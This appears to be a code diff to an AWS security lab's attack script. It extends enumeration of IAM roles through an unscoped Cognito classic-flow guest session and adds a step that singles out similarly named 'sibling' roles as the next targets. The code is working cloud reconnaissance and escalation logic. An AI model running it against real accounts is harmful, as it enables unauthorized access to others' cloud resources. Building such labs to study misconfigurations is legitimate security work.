@@ -30,7 +30,8 @@ LIST_ROLES = {
     "Statement": [{"Sid": "Lab06GuestsListRoles", "Effect": "Allow", "Action": "iam:ListRoles", "Resource": "*"}],
 }
 SESSION_NAME = "lab06-guest"
-MAX_SHOWN = 12  # role names printed; ListRoles answers a page of up to 100
+MAX_SHOWN = 12  # role names printed
+MAX_ROLES = 1000  # role names read, at most (ListRoles pages of 100)
 
 
 def _pool_config(*, deployment: Deployment, classic: bool) -> dict[str, Any]:
@@ -119,12 +120,17 @@ def attack(*, outsider: Outsider) -> AttackResult:
     outsider.got(f"a session with no scope-down: {session_arn}")
 
     outsider.step("IAM ListRoles with the classic-flow session")
+    pages = outsider.client("iam", classic).get_paginator("list_roles").paginate(PaginationConfig={"MaxItems": MAX_ROLES})
     try:
-        roles = [role["RoleName"] for role in outsider.client("iam", classic).list_roles()["Roles"]]
+        roles = [role["RoleName"] for page in pages for role in page["Roles"]]
     except ClientError as exc:
         return refused(exc)
     shown = ", ".join(roles[:MAX_SHOWN]) + (f" and {len(roles) - MAX_SHOWN} more" if len(roles) > MAX_SHOWN else "")
     outsider.got(f"the names of {len(roles)} roles in the account: {shown}")
+    guest_role = role_arn.rsplit("/", 1)[-1]
+    family = guest_role.rsplit("-", 1)[0] + "-"
+    siblings = [r for r in roles if r.startswith(family) and r != guest_role]
+    outsider.got(f"the guest role's siblings, named alike, the next roles to try: {', '.join(siblings) or 'none'}")
     return AttackResult(succeeded=True, obtained=(session_arn, *roles))
 
 
